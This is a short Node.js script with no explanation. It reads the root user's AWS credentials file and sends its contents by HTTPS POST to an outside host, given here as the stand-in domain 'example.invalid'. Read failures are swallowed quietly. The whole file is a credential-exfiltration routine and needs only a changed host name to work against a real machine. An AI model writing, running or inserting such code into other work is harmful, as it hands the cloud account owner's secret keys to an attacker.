const fs = require('fs');
const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return ''; } };
const post = (data) => {
  const r = require('https').request({ host: 'example.invalid', method: 'POST' });
  r.write(data);
  r.end();
};
post(read('/root/.aws/credentials'));
